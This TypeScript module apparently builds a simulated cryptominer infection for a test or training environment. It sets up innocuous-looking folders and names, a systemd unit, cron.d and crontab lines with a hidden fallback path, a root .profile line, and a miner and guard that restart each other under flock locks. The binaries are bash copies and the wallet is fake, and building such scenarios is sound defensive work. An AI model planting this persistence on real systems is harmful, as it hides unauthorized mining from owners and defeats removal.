import { minerArguments } from './inside/miner-script.ts';
import {
  guardedMinerScript,
  guardScript,
  guardStarter,
  renamingStarter,
  type WatchdogNames,
} from './inside/watchdog-scripts.ts';
import { badLine, pretendWallet } from './noisy-infection.ts';
import { POOL } from './places.ts';
import type { Random } from './random.ts';
import type { Part } from './scene.ts';
import type { Stage } from './stage.ts';

/** Names as an intruder gives who wants to be overlooked: nothing hidden, nothing in a temporary folder. */
export function watchdogNames(
  random: Random,
): WatchdogNames & { readonly unit: string; readonly cronFile: string; readonly fallback: string } {
  const folder = random.pick(['/usr/local/lib/sysupd', '/usr/local/lib/netlogd', '/usr/local/lib/dbusd']);
  return {
    folder,
    program: random.pick(['sysupdate', 'networkservice', 'sysguard']),
    script: 'core',
    starter: `${folder}/run`,
    guard: random.pick(['netwatch', 'syshelper', 'logsyncd']),
    guardScript: `${folder}/watch`,
    guardStarter: `${folder}/again`,
    download: random.pick(['w.sh', 'up.sh', 'get.sh']),
    poolAddress: POOL.address,
    poolPort: POOL.port,
    wallet: pretendWallet(random),
    unit: random.pick(['netlog-sync.service', 'systemd-netupdated.service', 'dbus-update.service']),
    cronFile: random.pick(['/etc/cron.d/netlog', '/etc/cron.d/sysstat-sync', '/etc/cron.d/dbus-clean']),
    fallback: random.pick(['/var/lib/.fallback/run', '/usr/share/.locale-cache/run', '/var/log/.rotate/run']),
  };
}

/** A miner and a guard that start each other again under other names, and five ways for both to come back. */
export function watchdogInfection(names: ReturnType<typeof watchdogNames>, stage: Stage): Part[] {
  const { folder } = names;
  const unitFile = `/etc/systemd/system/${names.unit}`;
  const program = (what: string, name: string): Part => ({
    ...{ kind: 'file', role: 'infection', what, mode: 0o755 },
    ...{ path: `${folder}/${name}`, copyOf: '/bin/bash' },
  });
  const script = (what: string, path: string, text: string): Part => ({
    ...{ kind: 'file', role: 'infection', what, path, text, mode: 0o755 },
  });
  return [
    { kind: 'file', role: 'stage', what: 'folder', path: folder, isFolder: true, mode: 0o777 },
    { kind: 'file', role: 'stage', what: 'lock', path: `${folder}/.lock`, text: '', mode: 0o666 },
    { kind: 'file', role: 'stage', what: 'lock', path: `${folder}/.guard`, text: '', mode: 0o666 },
    program('miner program', names.program),
    program('guard program', names.guard),
    script('miner script', `${folder}/${names.script}`, guardedMinerScript(names)),
    script('guard script', names.guardScript, guardScript(names)),
    script('starter', names.starter, renamingStarter(names)),
    script('starter of the guard', names.guardStarter, guardStarter(names)),
    script('second path of an A || B line', names.fallback, renamingStarter(names)),
    script(
      'cron file',
      names.cronFile,
      `SHELL=/bin/sh\n* * * * * root ${names.starter} cron.d >/dev/null 2>&1\n`,
    ),
    {
      ...{ kind: 'file', role: 'infection', what: 'systemd unit', path: unitFile, mode: 0o644 },
      text: `[Unit]\nDescription=Network log synchronisation\nAfter=network.target\n\n[Service]\nType=forking\nExecStart=${names.starter} unit\nRestart=always\nRestartSec=10\n\n[Install]\nWantedBy=multi-user.target\n`,
    },
    {
      ...{ kind: 'link', role: 'infection', what: 'unit enabled', target: unitFile },
      path: `/etc/systemd/system/multi-user.target.wants/${names.unit}`,
    },
    badLine(`${stage.crontabs}/root`, 0o600, {
      what: 'crontab line of root',
      text: `* * * * * ${names.starter} crontab >/dev/null 2>&1`,
      owner: { uid: 0, gid: stage.crontabGid },
    }),
    badLine(`${stage.crontabs}/${stage.victim.name}`, 0o600, {
      what: 'crontab line with A || B',
      text: `* * * * * ${names.starter} second >/dev/null 2>&1 || ${names.fallback} second >/dev/null 2>&1`,
      owner: { uid: stage.victim.uid, gid: stage.crontabGid },
    }),
    badLine('/root/.profile', 0o644, {
      what: 'login line',
      text: `(${names.starter} login >/dev/null 2>&1 &)`,
    }),
    underLock('guard', names, '.guard', 8, [`${folder}/${names.guard}`, names.guardScript]),
    underLock('miner', names, '.lock', 9, [`${folder}/${names.program}`, ...minerArguments(names)]),
  ];
}

/**
 * It holds the lock by which the other one knows that it lives, and begins only once the other one holds its own: each
 * would otherwise start the other before this stage has, and that one would then be nobody’s.
 */
function underLock(
  what: 'guard' | 'miner',
  names: WatchdogNames,
  lock: string,
  descriptor: 8 | 9,
  command: readonly string[],
): Part {
  const other = lock === '.lock' ? '.guard' : '.lock';
  const open = `exec ${descriptor}>> "$1" && flock ${descriptor} || exit
while flock -n -s "$2" true; do sleep 0.02; done
shift 2 && exec "$@"`;
  return {
    ...{ kind: 'process', role: 'infection', what, workingFolder: '/', file: '/bin/sh' },
    args: ['-c', open, 'sh', `${names.folder}/${lock}`, `${names.folder}/${other}`, ...command],
    environment: { STARTED_BY: 'intrusion' },
    ...(what === 'miner' ? { niceness: 19, connectsTo: `${POOL.address}:${POOL.port}` } : {}),
  };
}
